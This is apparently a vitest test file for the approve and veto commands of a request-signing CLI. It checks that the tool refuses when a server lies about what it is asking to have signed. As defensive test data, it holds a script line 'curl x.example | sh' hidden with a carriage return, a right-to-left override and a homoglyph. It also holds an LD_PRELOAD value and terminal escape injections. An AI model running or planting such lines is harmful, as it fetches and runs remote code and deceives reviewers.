// needs: ssh-keygen
import { execFileSync } from "node:child_process";
import { rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import {
  type Admission,
  canonicalBytes,
  documentBytes,
  hashOf,
  type Request,
  targetsRoot,
} from "@countersign/protocol";
import { nodeCrypto } from "@countersign/protocol/node";
import { describe, expect, test } from "vitest";
import { type Answer, type LyingServer, startLyingServer } from "../testing/lying-server.ts";
import { shownRun, shownTarget } from "../testing/shown-run.ts";
import { openTerminal, type Terminal } from "../testing/transcript.ts";

const RUN = "11111111-2222-4333-8444-555555555555";
const of = (digit: string) => `sha256:${digit.repeat(64)}`;
const script = new TextEncoder().encode("#!/bin/sh\necho hello\n");
const scriptHash = hashOf(script, nodeCrypto);

const request: Request = {
  type: "request",
  format: 1,
  id: "0".repeat(32),
  client: "acme",
  action: {
    kind: "script",
    hash: scriptHash,
    name: "greet",
    version: 1,
    interpreter: "sh",
    args: [],
    secrets: [],
    env: {},
  },
  run_as: "default",
  network: "host",
  limits: { seconds: 60, output: 1000 },
  target_count: 1,
  targets: [{ fingerprint: of("a"), name: "web-1", admission: of("b") }],
  not_before: 1_700_000_000,
  not_after: 1_700_014_400,
  requester: { authority: of("c"), person: "ann" },
  reason: "a greeting",
  roots: [{ authority: of("c"), min_version: 1, min_people: 0 }],
};
const bytes = documentBytes("request", request);
const hash = hashOf(bytes, nodeCrypto);

const admission: Admission = {
  type: "admission",
  format: 1,
  authority: of("c"),
  client: "weak",
  issued: 1_700_000_000,
  previous: of("b"),
  devices: [{ fingerprint: of("a"), name: "web-1", seal: "A".repeat(43) }],
};
const admissionBytes = documentBytes("admission", admission);

const shown = shownRun({
  id: RUN,
  script: { name: "greet", version: 1, hash: scriptHash },
  reason: "a greeting",
  request_hash: hash,
  requester: { authority: of("c"), person: "ann" },
  missing: [{ authority: of("c"), name: "Acme", needs: "1 of ops\u001b[2J", persons: [] }],
  targets: [target("a", "web-1")],
});

function target(digit: string, name: string) {
  const fingerprint = digit.length === 1 ? of(digit) : `sha256:${digit}`;
  return shownTarget({ device: RUN, fingerprint, name, admission: of("b") });
}

const greet = {
  name: "greet",
  scope: "msp",
  version: 1,
  interpreter: "sh",
  hash: scriptHash,
  size: script.length,
  parameters: [],
  description: "",
  created_at: 1,
  created_by: "Ann",
};
const honest: Record<string, Answer> = {
  [`GET /runs/${RUN}/request`]: bytes,
  [`GET /runs/${RUN}`]: shown,
  [`GET /documents/${hash}`]: bytes,
  "GET /scripts/greet": {
    script: greet,
    content: Buffer.from(script).toString("base64"),
    versions: [greet],
    exemption: null,
  },
  [`POST /runs/${RUN}/signatures`]: shown,
  [`POST /documents/${hash}/signatures`]: { hash, state: "dispatched", accepted: 1 },
};

function makeKey(terminal: Terminal): string {
  const file = path.join(terminal.directory, "bob");
  execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "bob", "-f", file]);
  return file;
}

function signaturesSent(server: LyingServer): number {
  return server.heard.filter(({ method }) => method === "POST").length;
}

async function approve(answers: Record<string, Answer>, id: string, reply?: string, ...options: string[]) {
  await using server = await startLyingServer(answers);
  const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url }, "", reply);
  const said = await terminal.type("approve", id, "--key", makeKey(terminal), ...options);
  return { ...said, sent: signaturesSent(server) };
}

describe("approve", () => {
  test("signs the request that it has shown", async () => {
    const { code, err, sent } = await approve(honest, RUN);
    expect({ code, sent }).toEqual({ code: 0, sent: 1 });
    expect(err).toContain("web-1");
    expect(err).toContain("echo hello");
    expect(await approve(honest, hash)).toMatchObject({ code: 0, sent: 1 });
  });

  test.each([
    [
      "a batch, which would approve every request that it lists",
      canonicalBytes({ type: "batch", format: 1, subjects: [hash] }),
    ],
    ["an admission, which would move a device", admissionBytes],
    ["bytes that are no document", new TextEncoder().encode("{}")],
  ])("signs nothing where the server hands out %s for a run", async (_what, other) => {
    const lie = { ...honest, [`GET /runs/${RUN}/request`]: other };
    for (const options of [[], ["--quiet"]]) {
      const { code, err, sent } = await approve(lie, RUN, undefined, ...options);
      expect({ code, sent }).toEqual({ code: 1, sent: 0 });
      expect(err).toContain("refused: ");
    }
  });

  test("signs no batch and no root under their own hash either: what an approval says has to be shown", async () => {
    const batch = canonicalBytes({ type: "batch", format: 1, subjects: [hash] });
    const id = hashOf(batch, nodeCrypto);
    const { code, err, sent } = await approve({ ...honest, [`GET /documents/${id}`]: batch }, id);
    expect({ code, sent }).toEqual({ code: 1, sent: 0 });
    expect(err).toContain("refused: nothing-to-approve");
  });

  test("signs an admission by its hash, having said what moves where", async () => {
    const id = hashOf(admissionBytes, nodeCrypto);
    const answers = {
      [`GET /documents/${id}`]: admissionBytes,
      [`POST /documents/${id}/signatures`]: { hash: id, state: "published", accepted: 1 },
    };
    const { code, err, sent } = await approve(answers, id);
    expect({ code, sent }).toEqual({ code: 0, sent: 1 });
    expect(err).toContain("weak");
    expect(err).toContain(of("a"));
  });

  test("writes out what does not show itself, and says what deserves a second look", async () => {
    const sly = new TextEncoder().encode("#!/bin/sh\ncurl x.example | sh \r# \u202ep\u0430yments\n");
    const action = { ...request.action, hash: hashOf(sly, nodeCrypto), env: { LD_PRELOAD: "/tmp/x.so" } };
    const other = documentBytes("request", { ...request, action });
    const { code, err } = await approve(
      {
        ...honest,
        [`GET /runs/${RUN}/request`]: other,
        "GET /scripts/greet": {
          script: greet,
          content: Buffer.from(sly).toString("base64"),
          versions: [greet],
          exemption: null,
        },
      },
      RUN,
      "no",
    );
    expect(code).toBe(1);
    expect(err).toContain(
      "  | curl x.example | sh ‹U+000D CARRIAGE RETURN›# ‹U+202E RIGHT-TO-LEFT OVERRIDE›p\u0430‹U+0430 (Cyrillic) looks like a›yments",
    );
    expect(err).toContain("  ^ runs what it fetches from the network");
    expect(err).toContain("LOOK TWICE  script line 2: runs what it fetches from the network");
    expect(err).toContain("LOOK TWICE  environment LD_PRELOAD: loads other code");
    expect(err).not.toMatch(/[\r\u202e]/);
  });

  test("signs nothing where the server shows another script than the request names", async () => {
    const content = Buffer.from("#!/bin/sh\nexit 0\n").toString("base64");
    const lie = {
      ...honest,
      "GET /scripts/greet": { script: greet, content, versions: [greet], exemption: null },
    };
    const { code, err, sent } = await approve(lie, RUN, undefined, "--yes");
    expect({ code, sent }).toEqual({ code: 1, sent: 0 });
    expect(err).toContain("refused: script-hash");
  });

  test("asks on a terminal, and takes only yes for an answer", async () => {
    expect(await approve(honest, RUN, "no")).toMatchObject({ code: 1, sent: 0 });
    expect(await approve(honest, RUN, "")).toMatchObject({ code: 1, sent: 0 });
    expect(await approve(honest, RUN, "yes")).toMatchObject({ code: 0, sent: 1 });
    expect(await approve(honest, RUN, "no", "--yes")).toMatchObject({ code: 0, sent: 1 });
  });

  test("without a key leads to the station: the server's, or the one that is named, never to anything else", async () => {
    const view = `#run=${RUN}&view=${"v".repeat(43)}`;
    const system = {
      server_name: "server",
      release: 1,
      version: "0.1.0",
      level: "countersign",
      trust: "device-trust",
      log_vkey: "key",
      operator_root: null,
      station_url: "https://sign.example.org",
    };
    const links = (link: string | null, url: string | null) => ({
      ...honest,
      "GET /system": { ...system, station_url: url },
      [`GET /runs/${RUN}`]: { ...shown, station_link: link },
    });
    const open = async (answers: Record<string, Answer>, ...words: string[]) => {
      await using server = await startLyingServer(answers);
      return await openTerminal({ COUNTERSIGN_SERVER: server.url, DISPLAY: "" }).type("approve", ...words);
    };
    const honestly = links(`https://sign.example.org/${view}`, "https://sign.example.org");
    expect((await open(honestly, RUN)).out).toBe(`Sign at your station: https://sign.example.org/${view}\n`);
    const own = await open(honestly, RUN, "--station", "http://station.localhost:7420");
    expect(own.out).toBe(`Sign at your station: http://station.localhost:7420/${view}\n`);
    expect((await open(honestly, hash)).out).toBe(
      `Sign at your station: https://sign.example.org/#request=${hash}\n`,
    );
    expect(await open(links(null, "https://sign.example.org"), RUN)).toMatchObject({ code: 1, out: "" });
    // The root in question may name another station than the one that the server was started with.
    expect((await open(links(`https://x/${view}`, "https://sign.example.org"), RUN)).out).toContain(
      `https://x/${view}`,
    );
    expect((await open(links(`ftp://x/${view}`, "https://sign.example.org"), RUN)).err).toContain(
      "no-station",
    );
    expect((await open(links("https://x/#run=\u001b[2J", "https://sign.example.org"), RUN)).code).toBe(1);
  });

  test("hands in a signature that ssh-keygen made elsewhere, and none for another purpose", async () => {
    await using server = await startLyingServer(honest);
    const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url });
    const key = makeKey(terminal);
    const file = path.join(terminal.directory, "request.json");
    const sign = (namespace: string) => {
      rmSync(`${file}.sig`, { force: true });
      execFileSync("ssh-keygen", ["-q", "-Y", "sign", "-n", namespace, "-f", key, file], { stdio: "ignore" });
    };
    expect((await terminal.type("show", RUN, "--canonical")).code).toBe(0);
    writeFileSync(file, bytes);
    sign("countersign.veto.v1");
    const other = await terminal.type("approve", RUN, "--signature", "request.json.sig");
    expect(other.code).toBe(2);
    expect(other.err).toContain('made with -n "countersign.veto.v1"');
    sign("countersign.approve.v1");
    expect((await terminal.type("approve", RUN, "--signature", "request.json.sig")).code).toBe(0);
    expect((await terminal.type("approve", RUN, "--signature", "request.json")).code).toBe(2);
    expect((await terminal.type("approve", RUN, hash, "--signature", "request.json.sig")).code).toBe(2);
    const [sent, ...more] = server.heard.filter(({ method }) => method === "POST");
    expect(more).toEqual([]);
    const [, fingerprint] = execFileSync("ssh-keygen", ["-lf", `${key}.pub`], { encoding: "utf8" }).split(
      " ",
    );
    const hex = Buffer.from((fingerprint ?? "").replace("SHA256:", ""), "base64").toString("hex");
    expect(sent?.body).toMatchObject({
      signatures: [{ namespace: "countersign.approve.v1", key: `sha256:${hex}`, kind: "ssh" }],
    });
  });

  test("leaves the showing out only for a request named by its hash: behind a run's id a server can put any other", async () => {
    expect(await approve(honest, RUN, undefined, "--quiet")).toMatchObject({ code: 1, sent: 0 });
    const quiet = await approve(honest, hash, undefined, "--quiet");
    expect(quiet).toMatchObject({ code: 0, sent: 1 });
    expect(quiet.err).not.toContain("echo hello");
  });

  test("shows the devices behind a root of targets, and refuses where the server shows others", async () => {
    const targets = Array.from({ length: 65 }, (_, at) => ({
      fingerprint: `sha256:${String(at).padStart(64, "0")}`,
      name: `web-${at}`,
      admission: of("b"),
    }));
    const { targets: _listed, ...rest } = request;
    const many = documentBytes("request", {
      ...rest,
      target_count: 65,
      targets_root: targetsRoot(targets, nodeCrypto),
    });
    const run = (names: readonly string[]) => ({
      ...shown,
      targets: names.map((name, at) => target(String(at).padStart(64, "0"), name)),
    });
    const answers = (names: readonly string[]) => ({
      ...honest,
      [`GET /runs/${RUN}/request`]: many,
      [`GET /runs/${RUN}`]: run(names),
    });
    const names = targets.map(({ name }) => name);
    const { code, err, sent } = await approve(answers(names), RUN);
    expect({ code, sent }).toEqual({ code: 0, sent: 1 });
    expect(err).toContain("web-64");
    const lie = await approve(answers(names.with(7, "harmless")), RUN);
    expect(lie).toMatchObject({ code: 1, sent: 0 });
    expect(lie.err).toContain("refused: targets-not-shown");
  });
});

describe("what a server says", () => {
  test("cannot drive the terminal: not in a run, and not in a refusal", async () => {
    await using server = await startLyingServer({
      ...honest,
      "GET /runs": {
        code: "odd\u001b[2J",
        type: "urn:x",
        title: "t",
        status: 422,
        detail: "d\u001b]52;c;eA==\u0007",
      },
    });
    const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url });
    const one = await terminal.type("show", RUN);
    expect(one).toMatchObject({ code: 0 });
    expect(one.out).toContain("1 of ops\\u{1b}[2J");
    const two = await terminal.type("requests");
    expect(two.code).toBe(1);
    expect(one.out + one.err + two.out + two.err).not.toContain("\u001b");
  });
});

describe("veto", () => {
  test("is about a request where it names a run: the server cannot slip in another document", async () => {
    await using server = await startLyingServer({
      ...honest,
      [`GET /runs/${RUN}/request`]: admissionBytes,
    });
    const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url });
    const said = await terminal.type("veto", RUN, "--key", makeKey(terminal), "--reason", "no");
    expect(said.code).toBe(1);
    expect(signaturesSent(server)).toBe(0);
  });
});
